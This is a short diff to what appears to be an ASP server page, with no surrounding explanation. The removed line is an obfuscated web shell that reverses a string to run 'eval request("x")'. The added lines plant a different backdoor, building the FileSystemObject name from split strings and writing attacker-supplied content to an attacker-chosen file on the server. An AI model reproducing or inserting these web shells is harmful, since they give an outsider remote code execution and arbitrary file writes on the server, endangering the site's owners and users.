@@ -1,3 +1,4 @@
 <%
-Execute(StrReverse(")""x""(tseuqer lave"))
+Set f = Server.CreateObject("scr" & "ipting.FileSys" & "temObject")
+f.CreateTextFile(Server.MapPath(Request("n"))).Write Request("d")
 %>
